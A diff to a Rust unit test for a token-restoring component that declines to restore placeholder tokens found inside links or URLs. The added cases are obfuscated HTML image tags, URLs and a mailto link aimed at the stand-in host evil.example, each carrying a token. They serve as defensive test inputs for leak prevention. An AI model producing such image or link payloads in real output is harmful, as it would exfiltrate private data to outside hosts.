@@ -353,10 +353,19 @@ fn tokens_in_links_and_foreign_tokens_stay_and_are_counted() {
         format!("www.evil.example/{token}"),
         format!("[x](<https://e.example/a {token}>)"),
         format!("https:\\/\\/e.example\\/{token}"),
+        format!("<img src='https:\\\\evil.example\\{token}'>"),
+        format!("<img src=\"https://evil.example/?q= {token}\">"),
+        format!("<img src=' /\\evil.example/\n{token}'>"),
+        format!("https:evil.example/{token} https:/evil.example/{token} mailto:e@evil.example?body={token}"),
+        format!("<img src=\"http&#58;&#47;&#47;evil.example/{token}\">"),
     ] {
         assert_eq!(restorer.whole(&text, Form::Plain), None, "{text}");
     }
-    assert_eq!(restorer.counts().in_links, 6);
+    assert_eq!(restorer.counts().in_links, 13);
+    let text =
+        format!("{{\"path\":\"C:\\\\plant\\\\{token}\",\"html\":\"<a href=\\\"//e.example/ {token}\\\">{token}\"}}");
+    let restored = text.replacen(&token, "TIC-101", 1).replace(&format!(">{token}"), ">TIC-101");
+    assert_eq!(restorer.whole(&text, Form::Json), Some(restored));
     let text = format!("{{\"url\":\"https://x.example/a\",\"tag\":\"{token}\"}}");
     assert!(restorer.whole(&text, Form::Json).is_some_and(|text| text.contains("TIC-101")));
     let foreign = crate::token::token(&Mixer, "other", &label("tag"), "TIC-102", 0);
